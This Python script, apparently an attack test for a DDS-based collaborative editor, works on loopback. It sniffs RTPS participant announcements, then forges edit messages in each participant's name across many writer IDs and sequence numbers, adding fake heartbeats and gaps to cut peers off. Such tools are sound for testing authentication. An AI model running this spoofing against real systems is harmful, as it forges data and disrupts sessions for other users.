#!/usr/bin/env python3
"""forge.py DOMAIN LOG [SECONDS]: a stranger without a key on the loopback, who hears how participants announce themselves until LOG
has a line `session ID`, and then writes edits of that session in each one's name, by every writer that it may have, under every number that may be next; and
heartbeats and gaps that would cut it off. Prints whose names it used."""
import os
import socket
import struct
import sys
import time

PARTICIPANT_WRITER = 0x000100C2


def submessages(told):
    at = 20
    while at + 4 <= len(told):
        kind, flags = told[at], told[at + 1]
        length = struct.unpack_from('<H' if flags & 1 else '>H', told, at + 2)[0] or len(told) - at - 4
        yield kind, told[at + 4:at + 4 + length]
        at += 4 + length


def session_in(log):
    with open(log, encoding='utf8') as file:
        return next((int(line.split()[1]) for line in file if line.startswith('session ')), None)


def heard(own, log):
    """Prefixes of those who announce themselves."""
    prefixes = set()
    end = time.monotonic() + 60
    known = False
    while time.monotonic() < end:
        if not known and session_in(log) is not None:
            known, end = True, time.monotonic() + 2  # its client says again that it is there
        try:
            told = own.recv(65536)
        except socket.timeout:
            continue
        if told[:4] == b'RTPS' and any(kind == 0x15 and struct.unpack_from('>I', body, 8)[0] == PARTICIPANT_WRITER
                                       for kind, body in submessages(told)):
            prefixes.add(told[8:20])
    return prefixes


def edit(session, number):
    """An Edit in CDR: `weight palm` of idl/edits.idl, by a client of its own name."""
    out = bytearray(b'\xaa' * 16 + struct.pack('<QQQQ', number, session, 0, 0))
    out += struct.pack('<I', 1) + b'\0'  # no identity
    out += b'\0' * (-len(out) % 4) + struct.pack('<I', 0)  # no token
    out += struct.pack('<I', 0)  # at no time
    out += struct.pack('<I', 1) + struct.pack('<I', 5) + b'palm\0'
    out += b'\0' * (-len(out) % 8) + struct.pack('<d', 0.25 if number % 2 else 0.75)
    return b'\0\x01\0\0' + bytes(out)


def submessage(kind, flags, body):
    body += b'\0' * (-len(body) % 4)
    return struct.pack('<BBH', kind, flags | 1, len(body)) + body


def main():
    domain, log = int(sys.argv[1]), sys.argv[2]
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 6
    base = 7400 + 250 * domain
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for index in range(40, 20, -1):
        try:
            own.bind(('127.0.0.1', base + 10 + 2 * index))
            break
        except OSError:
            continue
    own.settimeout(0.2)
    names = heard(own, log)
    session = session_in(log)
    print('in the names of', ', '.join(sorted(name.hex() for name in names)) or 'nobody', flush=True)
    end, sent, number = time.monotonic() + seconds, 0, 0
    while names and time.monotonic() < end:
        for name in names:
            header = b'RTPS\x02\x01\x01\x10' + name
            number += 1
            next_number = number % 300 + 1
            for entity in range(1, 48):
                for kind in (0x02, 0x03):
                    writer = entity << 8 | kind
                    data = submessage(0x15, 0x04, struct.pack('<HH', 0, 16) + struct.pack('>II', 0, writer) +
                                      struct.pack('<iI', 0, next_number) + edit(session, int.from_bytes(os.urandom(6), 'little')))
                    rest = b''
                    if number % 50 == 0:
                        rest = submessage(0x07, 0, struct.pack('>II', 0, writer) + struct.pack('<iIiII', 0, 200, 0, 300, number))
                        rest += submessage(0x08, 0, struct.pack('>II', 0, writer) + struct.pack('<iIiII', 0, 1, 0, 200, 0))
                    for port in (base + 11, base + 13, base + 15):
                        own.sendto(header + data + rest, ('127.0.0.1', port))
                        sent += 1
            time.sleep(0.002)
    print(sent, 'datagrams', flush=True)


main()
